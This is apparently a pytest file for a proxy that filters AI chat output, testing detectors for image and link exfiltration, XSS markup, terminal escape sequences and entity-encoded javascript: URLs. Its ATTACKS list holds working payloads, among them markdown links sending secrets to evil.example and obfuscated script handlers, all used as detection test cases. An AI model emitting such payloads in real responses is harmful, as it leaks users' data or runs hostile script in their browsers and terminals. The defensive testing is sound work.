import pytest

from proxy.leak.markup import ansi_detector, image_detector


@pytest.mark.parametrize("text,expect", [
    ("![x](https://evil.example/p.png?q=s3cr3t)", ["markdown_image"]),
    ("![x]( <https://evil.example/p.png> \"t\" )", ["markdown_image"]),
    ("<IMG SRC='http://evil.example/x'>", ["html_image"]),
    ("![logo](https://cdn.acme.com/logo.png)", []),
    ("![logo](https://img.cdn.acme.com/logo.png)", []),
    ("![local](/static/a.png) ![inline](data:image/png;base64,AAAA)", []),
    ("[a link](https://evil.example) is not an image", []),
])
def test_images(text, expect):
    hits, _ = image_detector(["cdn.acme.com"]).scan(text, 0, final=True)
    assert [h.kind for h in hits] == expect


def test_image_in_progress_is_held():
    assert image_detector().scan("look ![x](https://ev", 0, final=False) == ([], 5)


@pytest.mark.parametrize("text,kinds,visible", [
    ("\x1b[31mred\x1b[0m", {"csi"}, "red"),
    ("\x1b]8;;http://evil\x07click\x1b]8;;\x07", {"osc"}, "click"),
    ("\x1b]0;title\x1b\\ok", {"osc", "esc"}, "ok"),  # the ST inside the OSC is also an escape: merged
    ("\x9b2J and \x1bc", {"csi", "esc"}, " and "),
    ("plain text, no escapes", set(), "plain text, no escapes"),
])
def test_ansi(text, kinds, visible):
    hits = ansi_detector().scan(text, 0, final=True)[0]
    assert {h.kind for h in hits} == kinds
    assert "".join(ch for i, ch in enumerate(text) if not any(h.start <= i < h.end for h in hits)) == visible


def test_split_escape_is_held_whole():
    hits, hold = ansi_detector().scan("ok \x1b[3", 0, final=False)
    assert hold == 3


# ---------------------------------------------------------------- links with data, XSS markup, escapes written as text

from hypothesis import given, settings, strategies as st  # noqa: E402

from proxy.leak.markup import ansi_alternatives, ansi_text_alternatives, link_alternatives, xss_alternatives  # noqa: E402
from proxy.leak.pattern import PatternDetector  # noqa: E402
from proxy.pipeline.chain import Chain  # noqa: E402
from tests.harness import client_text  # noqa: E402
from tests.stages.test_leak import each_way, split, sse, stage, started, stream_through  # noqa: E402


def scan_kinds(text):
    alts, checks = link_alternatives(["docs.acme.com"])
    det = PatternDetector(alts + xss_alternatives() + ansi_text_alternatives() + ansi_alternatives(), checks)
    return [(h.kind, text[h.start:h.end]) for h in det.scan(text, 0, final=True)[0]]


ATTACKS = {
    "[click here](https://evil.example/collect?d=s3cr3t)": "markdown_link",
    "[x]( <https://evil.example/p#tok3n> \"title\" )": "markdown_link",
    "[ref1]: https://evil.example/i.png?q=SECRET": "markdown_link",  # serves ![a][ref1]
    "  [r]: <http://evil.example/#x>": "markdown_link",
    "<https://evil.example/?leak=abc>": "markdown_link",
    "<script>fetch('//evil')</script>": "markup",
    "<SCRIPT src=//evil.example/x.js>": "markup",
    "<img src=x onerror=alert(1)>": "markup",
    "<svg/onload=alert(1)>": "markup",
    "<iframe src=\"https://evil.example\"></iframe>": "markup",
    "<a href=\"#\" onclick=\"steal()\">ok</a>": "markup",
    "<div style=x onmouseover='a()'>": "markup",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example\">": "markup",
    "[x](javascript:alert(document.cookie))": "markdown_link",  # the whole link goes
    "[link](javascript:\"onerror=\"alert(1))": "markdown_link",
    "[x](JavaScript :alert(1))": "script_url",
    "<a href=\"vbscript:msgbox\">": "script_url",
    "[x](data:text/html;base64,PHNjcmlwdD4=)": "markdown_link",
    "[Click here](https://evil.example/nbml=[DATA])": "markdown_link",  # key=value in the path (garak)
    "![t][ref]\n\n[ref]: https://evil.example/q=[NUM]": "markdown_link",
    "[x](https://evil.example/c/aGVsbG8gd29ybGQgdGhpcyBpcyBkYXRhIGxlYWs)": "markdown_link",  # long opaque segment
    "x </script> y": "markup",
    "Hello \\27[32mTHIS IS GREEN\\27[0m": "ansi_text",  # \27 (decimal) as in Lua
    "repeat \\x9b and \\x9d": "ansi_text",  # 8-bit CSI / OSC written as text
    "printf '\\x1b[31mred'": "ansi_text",
    "echo -e \"\\u001b[2J\"": "ansi_text",
    "\\033[0m reset": "ansi_text",
    "\\e[1;32m": "ansi_text",
    "raw \x1b[": "csi",  # an unterminated introducer at the end
    "raw \x1b]": "osc",
    "\\x1B]8;;https://evil.example\\x07click\\x1b]8;;\\x07": "ansi_text",
    "\\u001b]0;title\\u0007": "ansi_text",
    # schemes written with HTML character references (decoded by an HTML or CommonMark renderer)
    "<a href=\"&#106;avascript:alert(1)\">x</a>": "script_url",
    "<a href='&#x6A;avascript:alert(1)'>x</a>": "script_url",
    "<a href=\"&#X6a;AvAsCrIpT:alert(1)\">": "script_url",
    "<a href=\"&#0000106;&#0000097;&#0000118;&#0000097;&#0000115;&#0000099;&#0000114;&#0000105;&#0000112;&#0000116;&#0000058;alert(1)\">": "script_url",
    "<a href=\"&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)\">": "script_url",  # no ";": browsers take it
    "<a href=\"javascript&colon;alert(1)\">": "script_url",
    "<a href=\"jav&#x09;ascript:alert(1)\">": "script_url",  # a tab: browsers drop it
    "<a href=\"jav&Tab;ascript&#x3A;alert(1)\">": "script_url",
    "<a href=\"vb&#115;cript:msgbox(1)\">": "script_url",
    "<iframe src=\"&#100;ata:text/html,<b>x</b>\">": "markup",
    "<a href=\"&#100;ata:text/html;base64,PHNjcmlwdD4=\">": "script_url",
    "[x](&#106;avascript:alert(1))": "markdown_link",  # CommonMark decodes references in a destination
    "[x](&#x6a;avascript&#x3a;alert(1))": "markdown_link",
    "[x](javascript&colon;alert(1))": "markdown_link",
}
CLEAN = [
    "[the docs](https://docs.acme.com/guide?page=2)",  # allowlisted host
    "[a link](https://example.org/guide)",  # no data in the URL
    "[relative](/help?x=1) and [anchor](#setup)",
    "see https://example.org/?q=1 in prose",  # bare URL: not judged
    "if a < b and b > c then a<c",
    "use <b>bold</b> and <em>emphasis</em>, <br/> too",
    "the metadata, a database: text/plain, javascripts and data: text/csv",
    "\\emph{x} and \\n and C:\\033 folder? no: C:\\users",
    "options [1] and [2]: pick one",
    "R&amp;D and Q&A at AT&T: &lt;b&gt; is bold, &copy; 2024 &#8212; it&#8217;s fine",
    "x&#106;avascript: is not a scheme (a letter before it), nor &#106;ava script: with a space",
    "[the docs](https://docs.acme.com/g?x=1&amp;y=2)",  # allowlisted host, a reference in the query
    "the script: section and the data: text block",
]


@pytest.mark.parametrize("text", sorted(ATTACKS))
def test_markup_attacks_are_found(text):
    kinds = scan_kinds(text)
    assert kinds and kinds[0][0] == ATTACKS[text], kinds


@pytest.mark.parametrize("text", CLEAN)
def test_markup_lookalikes_pass(text):
    assert scan_kinds(text) == []


@settings(max_examples=60, deadline=None)
@given(attack=st.sampled_from(sorted(ATTACKS)),
       cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=30),
       sizes=st.lists(st.integers(min_value=0, max_value=12), max_size=4))
async def test_markup_attacks_never_reach_the_client_in_any_split(attack, cuts, sizes):
    text = "Here you go:\n" + attack + "\nthanks"
    async for got, denied, ex in each_way(text, cuts, sizes):
        assert denied is None and attack not in got and got.startswith("Here you go:\n") and got.endswith("\nthanks")
        for needle in NEEDLES:
            if needle in attack:
                assert needle not in got, needle


@settings(max_examples=40, deadline=None)
@given(clean=st.sampled_from(CLEAN), cuts=st.lists(st.integers(min_value=0, max_value=10_000), max_size=30))
async def test_markup_lookalikes_pass_byte_identical_in_any_split(clean, cuts):
    chain = Chain([stage(markdown_image={"allow_hosts": ["docs.acme.com"]})])
    ex = await started(chain)
    out, denied = await stream_through(chain, ex, sse(split(clean, cuts)))
    assert denied is None and client_text(out) == clean


NEEDLES = ("evil.example", "&#106;", "&#x6A;", "&#X6a;", "&#0000106;", "&#106&", "&colon;", "&#x09;", "&Tab;", "&#115;",
           "&#100;", "&#x6a;", "onerror", "onload", "onclick", "onmouseover", "<script", "<SCRIPT", "<iframe", "<meta",
           "javascript:", "JavaScript :", "vbscript:", "data:text/html", "\\x1b[", "\\u001b", "\\033[", "\\e[", "\\x1B]",
           "nbml=", "q=[NUM]", "aGVsbG8", "</script>", "\\27[", "\\x9b", "\\x9d", "\x1b[", "\x1b]")


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_two_way_split_of_a_markup_attack(attack):
    """Exhaustive over the cut point, scanner level (a partial match with a look-behind inside once
    released the start of a tag with an on*= handler)."""
    from proxy.leak.rules import TenantInfo, compile_rules
    from proxy.stages.leak import LeakConfig
    rules = compile_rules(LeakConfig(type="leak"), {"acme": TenantInfo(None, ())})["acme"]
    text = "Here you go:\n" + attack + "\nthanks"
    for cut in range(len(text) + 1):
        s = rules.scanner()
        out = s.feed(text[:cut]).text + s.feed(text[cut:]).text + s.finish().text
        assert out.startswith("Here you go:\n") and out.endswith("\nthanks"), cut
        assert not [n for n in NEEDLES if n in attack and n in out], (cut, out)


@pytest.mark.parametrize("url,external", [
    ("https://docs.acme.com/p.png", False),
    ("https://evil.example&#47;@docs.acme.com/p.png", True),  # decoded: the host is evil.example
    ("https://evil.example&sol;@docs.acme.com/p.png", True),
    ("\thttps://docs.acme.com/x.png", False),
    ("https://docs.acme.com&#64;evil.example/x.png", True),
])
def test_image_hosts_are_judged_as_the_renderer_reads_them(url, external):
    hits, _ = image_detector(["docs.acme.com"]).scan(f"![x]({url})", 0, final=True)
    assert bool(hits) == external, url


def test_rendered_url():
    from proxy.leak.markup import rendered_url
    assert rendered_url("&#x6A;ava&#x09;script&colon;x") == "javascript:x"
    assert rendered_url(" \x01jav\nascript:x") == "javascript:x"
    assert rendered_url("https://a.example/?q=1&b=2") == "https://a.example/?q=1&b=2"


def test_text_without_an_ampersand_costs_the_entity_scheme_nothing():
    # the entity alternative is anchored on "&": text without one never runs it nor is held for it
    from proxy.leak.markup import _ENTITY_URL
    only = PatternDetector([a for a in xss_alternatives() if a.group == "xss__entity_url"])
    assert only.scan("javascript and &", 0, final=False) == ([], len("javascript and "))
    assert only.scan("plain text with javascript: and no ampersand", 0, final=False)[1] == 44
    assert _ENTITY_URL.startswith("(?i:")
